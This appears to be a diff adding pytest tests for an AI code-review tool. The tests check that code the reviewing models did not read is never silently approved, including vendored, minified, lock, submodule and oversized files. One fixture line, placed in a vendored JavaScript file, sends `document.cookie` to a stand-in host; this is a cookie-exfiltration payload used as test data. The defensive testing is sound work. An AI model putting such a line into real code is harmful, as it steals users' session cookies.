@@ -1,0 +1,151 @@
+"""Code that nobody read is approved by nobody, wherever it was put, and `--check` says so."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Mapping, Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from adapters.diffs.patches import parse
+from adapters.material import MaterialLibrary
+from adapters.material.changes import from_diff
+from adapters.models.scripted import Scripted
+from adapters.redaction import shared
+from core.material import Coverage, Material, Read
+from core.ports import CallOptions, Message, Model
+from tests.adapters.material.conftest import settings_for
+from tests.end_to_end import house
+from tests.end_to_end.diffs import adding
+from tests.end_to_end.house import LINK, Played, typed
+from tests.standins.github import GitHubStandIn, Pull
+
+README = adding("README.md", "the teh")
+HIDDEN = {
+    "vendor/left-pad/index.js": ("vendored", ["fetch('https://x.example?' + document.cookie)"]),
+    "web/app.min.js": ("minified", ["x" * 2_000]),
+    "uv.lock": ("lock file", ["name = 'evil'"]),
+    "src/one_line.py": ("1 very long line shortened", ["x = 1" + " " * 3_000 + "; evil()"]),
+}
+
+
+def material(*files: bytes, budget: int = 5_000, folder: str = "") -> Material:
+    data = b"".join(files)
+    return from_diff(parse(data, shared()), data, "x.diff", "", "x.diff", "", budget, folder)
+
+
+def approving(_messages: Sequence[Message], asking: CallOptions) -> str:
+    """A seat that finds nothing and approves."""
+    return json.dumps(_pleased(asking.schema or {}))
+
+
+def _pleased(schema: Mapping[str, Any]) -> Any:
+    if "enum" in schema:
+        return "approve" if "approve" in schema["enum"] else schema["enum"][0]
+    match schema.get("type", "object"):
+        case "object":
+            return {name: _pleased(part) for name, part in schema.get("properties", {}).items()}
+        case "array":
+            return []
+        case "number":
+            return 0.9
+        case _:
+            return "fine"
+
+
+class Approving(house.Watched):
+    def _make_scripted(self, name: str) -> Model:
+        model = Scripted(replies=[approving] * 200)
+        self.made.append(model)
+        return model
+
+
+@pytest.fixture
+async def reviewed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
+    """One change, seen by seats that like it."""
+    monkeypatch.setattr(house, "Watched", Approving)
+
+    async def review(*files: bytes, template: str = "code_review") -> Played:
+        change = tmp_path / "x.diff"
+        change.write_bytes(b"".join(files))
+        return await typed(tmp_path, None, template, str(change), "--check")
+
+    return review
+
+
+@pytest.mark.parametrize("path", HIDDEN)
+async def test_where_reviewers_do_not_look_nothing_is_approved(
+    path: str, reviewed: Callable[..., Any], capsys: pytest.CaptureFixture[str]
+) -> None:
+    reason, lines = HIDDEN[path]
+    played = await reviewed(README, adding(path, *lines))
+    assert (played.code, played.decision) == (1, "comment")
+    sentence = f"Code was changed that nobody read: {path} ({reason})."
+    assert sentence in played.outcome["verdict"]["summary"]
+    assert f"Nothing blocks, but this is no approval. {sentence}" in capsys.readouterr().err
+
+
+async def test_what_was_read_whole_is_approved_and_pictures_are_no_code(
+    reviewed: Callable[..., Any],
+) -> None:
+    picture = (
+        b"diff --git a/logo.png b/logo.png\nindex 1..2 100644\n"
+        b"Binary files a/logo.png and b/logo.png differ\n"
+    )
+    played = await reviewed(README, picture)
+    assert (played.code, played.decision) == (0, "approve")
+
+
+async def test_a_vote_of_the_seats_is_not_reached_over_unread_code(
+    reviewed: Callable[..., Any],
+) -> None:
+    """In a template whose verdict is the seats' consensus."""
+    played = await reviewed(README, adding("vendor/x.js", "y"), template="architecture_review")
+    verdict = played.outcome["verdict"]
+    assert (played.code, verdict["decision"], verdict["reached"]) == (1, "approve", False)
+    assert "nobody read: vendor/x.js (vendored)" in verdict["summary"]
+
+
+@pytest.mark.parametrize(
+    ("files", "unread"),
+    [
+        ([README], []),
+        ([adding("a.py", *["x = 1"] * 4_000), README], ["a.py"]),
+        ([adding("lib.so", "x").replace(b"@@", b"Binary files a b differ\n@@")], ["lib.so"]),
+    ],
+)
+def test_code_beyond_the_budget_counts_as_unread(
+    files: Sequence[bytes], unread: Sequence[str]
+) -> None:
+    found = material(*files, README, budget=1_000)
+    assert [one.path for one in found.coverage if one.unread] == unread
+
+
+def test_a_submodule_s_new_commit_is_code_that_nobody_read() -> None:
+    data = (
+        b"diff --git a/lib b/lib\nindex 1111111..2222222 160000\n--- a/lib\n+++ b/lib\n"
+        b"@@ -1 +1 @@\n-Subproject commit 1111111\n+Subproject commit 2222222\n"
+    )
+    (lib, _) = material(data, README).coverage
+    assert (lib.state, lib.unread) == (Read.FULL, True)
+
+
+def test_what_the_person_left_aside_is_no_objection() -> None:
+    found = material(README, adding("vendor/x.js", "evil()"), folder="README")
+    assert not any(one.unread for one in found.coverage)
+
+
+async def test_files_that_a_forge_does_not_list_are_unread(github: GitHubStandIn) -> None:
+    """Beyond 3,000 files GitHub names none; and then it gives no diff of the whole either."""
+    files = [{"filename": f"f{n}.py", "status": "added", "changes": 0} for n in range(3_000)]
+    files[0] |= {"changes": 1, "patch": "@@ -0,0 +1 @@\n+x = 1"}
+    pull = Pull(diff=adding("f0.py", "x = 1"), changed_files=3_001, files=files)
+    github.pulls["o/r", 412] = pull
+    github.refuse("/compare/", 406, "too large")
+    library = MaterialLibrary(settings_for(github))
+    found = await library.read(LINK, kind="pull_request", budget=60_000)
+    assert found.coverage[-1] == Coverage(
+        "further files", Read.LEFT_OUT, "the forge does not list them", unread=True
+    )
